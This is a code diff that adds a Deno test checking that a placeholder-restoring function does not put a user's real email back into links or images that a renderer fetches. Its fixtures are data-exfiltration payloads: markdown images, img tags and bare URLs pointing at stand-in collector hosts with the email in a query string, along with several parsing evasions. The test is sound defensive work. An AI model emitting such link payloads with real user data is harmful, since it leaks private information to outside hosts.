@@ -50,3 +50,36 @@ Deno.test("a reply's link keeps the user's own value as its placeholder; the tex
     assertEquals(out.text.includes("d=ada@example.org"), false, out.text);
   }, { types: { url: "Normal" } });
 });
+
+Deno.test("every form a renderer or platform fetches counts as a link: the placeholder stays", () => {
+  const fetched = [
+    "![](//collector.example/p.png?e=[EMAIL_1])",
+    "<img src=//collector.example/p.png?e=[EMAIL_1]>",
+    '<img alt="x" src="https://collector.example/p.png?e= [EMAIL_1]">',
+    "![](https:\\\\collector.example\\p.png?e=[EMAIL_1])",
+    "![](https:/collector.example/p.png?e=[EMAIL_1])",
+    "collector.com/?e=[EMAIL_1]",
+    "see 203.0.113.9:8080/c?e=[EMAIL_1]",
+    "[click](<https://collector.example/?e= [EMAIL_1]>)",
+    "![x](https://collector.example/p.png?e=\n[EMAIL_1])",
+  ];
+  for (const text of fetched) {
+    assertEquals(restoreOutsideLinks(text, restore), text, text);
+    const r = createStreamRestorer((t, before) => restoreOutsideLinks(t, restore, before));
+    let out = "";
+    for (let i = 0; i < text.length; i += 3) out += r.push(text.slice(i, i + 3));
+    assertEquals(out + r.flush(), text, `streamed: ${text}`);
+  }
+  // Text around links, and links that have ended, still get the value back.
+  for (
+    const [text, expected] of [
+      ["Your address is [EMAIL_1].", "Your address is ada@example.org."],
+      [
+        "[docs](https://x.example/a) for [EMAIL_1]",
+        "[docs](https://x.example/a) for ada@example.org",
+      ],
+      ["<b>mail</b> [EMAIL_1]", "<b>mail</b> ada@example.org"],
+      ["e.g. [EMAIL_1] or 3/4 of it", "e.g. ada@example.org or 3/4 of it"],
+    ]
+  ) assertEquals(restoreOutsideLinks(text, restore), expected, text);
+});
